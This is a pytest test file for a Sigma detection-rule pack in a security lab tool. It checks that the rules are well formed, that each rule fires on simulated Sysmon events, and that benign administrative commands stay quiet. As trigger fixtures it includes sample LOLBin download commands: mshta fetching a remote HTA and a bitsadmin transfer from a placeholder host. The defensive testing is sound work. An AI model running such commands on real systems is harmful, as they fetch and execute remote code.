"""The example's own rule pack: well-formed, its own, and every rule able to fire."""

from __future__ import annotations

import json
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from sigma.collection import SigmaCollection
from sigma.rule import SigmaRule

from tocsin.example import RULES
from tocsin.example.generate import write_evidence
from tocsin.lab import scan
from tocsin.lab.detections import Detection
from tocsin.lab.sigma.loading import load_rules

FILES = sorted(RULES.glob("*.yml"))
TACTICS = {
    "initial-access",
    "execution",
    "persistence",
    "privilege-escalation",
    "defense-evasion",
    "credential-access",
    "discovery",
    "lateral-movement",
    "collection",
    "command-and-control",
    "exfiltration",
    "impact",
}


def read(path: Path) -> dict[str, Any]:
    """One rule as plain values."""
    rule: dict[str, Any] = yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
    return rule


def found(evidence: list[Path], folder: Path) -> list[Detection]:
    """What the pack finds in some files."""
    detections: list[Detection] = []
    scan(evidence, load_rules([RULES], cache_dir=folder), jobs=1, sink=detections.extend)
    return detections


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.stem)
def test_a_rule_is_complete_and_its_own(path: Path) -> None:
    rule = read(path)
    assert uuid.UUID(rule["id"]).version == 4
    assert rule["author"] == "Tocsin"
    assert rule["license"] == "Apache-2.0"
    assert rule["falsepositives"]
    assert rule["level"] in ("low", "medium", "high", "critical")
    tags = [tag.removeprefix("attack.") for tag in rule["tags"]]
    assert any(tag in TACTICS for tag in tags)
    assert any(tag.startswith("t1") for tag in tags)


def test_ids_and_titles_are_unique_and_pysigma_reads_them_all() -> None:
    rules = [read(path) for path in FILES]
    assert len(rules) >= 30
    assert len({rule["id"] for rule in rules}) == len({rule["title"] for rule in rules}) == len(rules)
    collection = SigmaCollection.from_dicts(rules, collect_errors=True)
    for rule in collection.rules:
        assert isinstance(rule, SigmaRule)
        assert not rule.errors, rule.title
        assert all(condition.parsed for condition in rule.detection.parsed_condition)


def test_the_lab_takes_every_rule(tmp_path: Path) -> None:
    rules = load_rules([RULES], cache_dir=tmp_path)
    assert len(rules.rules) == len(FILES)
    assert rules.rejected == []
    assert rules.not_assessable == []


def process_started(image: str, command_line: str) -> str:
    """A Sysmon process creation as Winlogbeat ships it."""
    return json.dumps({
        "@timestamp": "2026-03-13T10:00:00.000Z",
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "provider_name": "Microsoft-Windows-Sysmon",
            "computer_name": "HAL-ENG-114",
            "event_id": "1",
            "record_id": 1,
            "event_data": {"Image": image, "CommandLine": command_line},
        },
    })  # fmt: skip


def test_every_rule_fires_on_the_story_or_on_an_event_of_its_kind(tmp_path: Path) -> None:
    others = tmp_path / "others.jsonl"
    system32 = "C:\\Windows\\System32\\"
    commands = (
        ("mshta.exe", "mshta https://a.example.net/a.hta"),
        ("bitsadmin.exe", "bitsadmin /transfer j https://a.example.net/x C:\\x"),
    )
    lines = [process_started(system32 + program, line) + "\n" for program, line in commands]
    others.write_text("".join(lines), encoding="utf-8")
    evidence = write_evidence(tmp_path / "evidence", datetime(2026, 3, 13, 6, tzinfo=UTC))
    titles = {detection.title for detection in found([*evidence, others], tmp_path / "cache")}
    assert {read(path)["title"] for path in FILES} - titles == set()


def test_ordinary_commands_of_the_same_programs_stay_quiet(tmp_path: Path) -> None:
    system32 = "C:\\Windows\\System32\\"
    ordinary = (
        (system32 + "vssadmin.exe", "vssadmin list shadows"),
        (system32 + "wbadmin.exe", "wbadmin get versions"),
        (system32 + "bcdedit.exe", "bcdedit /enum"),
        (system32 + "net.exe", "net start spooler"),
        (system32 + "net.exe", "net use Z: \\\\HAL-FS-03\\Engineering"),
        (system32 + "schtasks.exe", "schtasks /query /fo list"),
        (system32 + "certutil.exe", "certutil -hashfile setup.exe SHA256"),
        (system32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL"),
        (system32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -File a.ps1"),
        ("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe x drawings.zip"),
    )  # fmt: skip
    quiet = tmp_path / "quiet.jsonl"
    quiet.write_text("".join(process_started(*one) + "\n" for one in ordinary), encoding="utf-8")
    assert [d.title for d in found([quiet], tmp_path / "cache")] == []
